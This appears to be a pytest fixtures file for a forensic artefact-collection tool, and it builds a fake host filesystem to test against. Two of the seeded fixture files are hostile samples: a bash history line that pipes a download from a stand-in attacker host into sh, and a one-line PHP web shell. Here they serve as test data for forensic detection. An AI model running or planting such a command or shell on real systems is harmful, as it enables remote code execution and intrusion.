"""
Cat-Scale Test Configuration and Fixtures
==========================================
Shared fixtures and configuration for all tests.
"""

import os
import pytest
import tempfile
import shutil
from datetime import datetime
from pathlib import Path
from typing import Generator

from catscale.core.config import CollectionConfig
from catscale.core.schema import Category
from catscale.core.workspace import OutputWorkspace


PASSWD = """\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
alice:x:1000:1000:Alice:/home/alice:/bin/bash
bob:x:1001:1001:Bob:/home/bob:/bin/false
# comment line
carol:x:1002:1002:Carol:/home/carol:/usr/bin/zsh
"""


# =============================================================================
# Fixtures
# =============================================================================

@pytest.fixture
def temp_dir() -> Generator[Path, None, None]:
    """Create a temporary directory for tests."""
    path = Path(tempfile.mkdtemp(prefix="catscale_test_"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.fixture
def fake_host(temp_dir) -> Path:
    """A small host filesystem image to collect from via host_root."""
    root = temp_dir / "host"

    files = {
        "etc/passwd": PASSWD,
        "etc/hosts": "127.0.0.1 localhost\n",
        "etc/os-release": 'NAME="Test OS"\nVERSION="1.0"\n',
        "etc/ssh/sshd_config": "PermitRootLogin no\n",
        "root/.profile": "export PATH=/usr/bin\n",
        "home/alice/.bashrc": "alias ll='ls -l'\n",
        "home/alice/.bash_history": "curl http://evil.example/x | sh\n",
        "home/alice/notes.txt": "not a dotfile\n",
        "home/alice/.ssh/authorized_keys": "ssh-ed25519 AAAA alice@laptop\n",
        "home/bob/.bashrc": "bob is not interactive\n",
        "home/carol/.zshrc": "setopt autocd\n",
        "var/log/syslog": "Oct 19 09:00:00 host sshd[1]: Accepted\n",
        "var/log/auth/secure": "Oct 19 09:00:01 host sudo: alice\n",
        "var/www/html/index.html": "<html></html>\n",
        "var/www/html/shell.PHP": "<?php system($_GET['c']); ?>\n",
        "tmp/dropper.sh": "#!/bin/sh\necho hi\n",
    }
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)

    os.chmod(root / "tmp/dropper.sh", 0o755)
    (root / "var/spool/cron").mkdir(parents=True)
    (root / "dev").mkdir()
    return root


@pytest.fixture
def out_root(temp_dir) -> Path:
    path = temp_dir / "out"
    path.mkdir()
    return path


@pytest.fixture
def config(fake_host, out_root) -> CollectionConfig:
    """Config collecting from the fake host into out_root."""
    return CollectionConfig(
        outdir="testout",
        outfile="sample",
        outroot=str(out_root),
        outfile_prefix="demo_",
        host_root=str(fake_host),
        hostname="testhost",
        started=datetime(2026, 10, 19, 9, 30),
    )


@pytest.fixture
def workspace(config) -> OutputWorkspace:
    return OutputWorkspace.create(config.outroot, config.outdir, config.outfile_name)


@pytest.fixture
def make_ctx(workspace, config):
    """Factory for a JobContext around an action."""
    from catscale.collectors.job import Job, JobContext

    def factory(action, category=Category.MISC, name="test-job", deadline=None, cfg=None):
        job = Job(name=name, category=category, action=action)
        return JobContext(job=job, workspace=workspace, config=cfg or config, deadline=deadline)

    return factory


# =============================================================================
# Test Markers
# =============================================================================

def pytest_configure(config):
    """Configure custom pytest markers."""
    config.addinivalue_line("markers", "slow: marks tests as slow running")
    config.addinivalue_line("markers", "integration: marks integration tests")


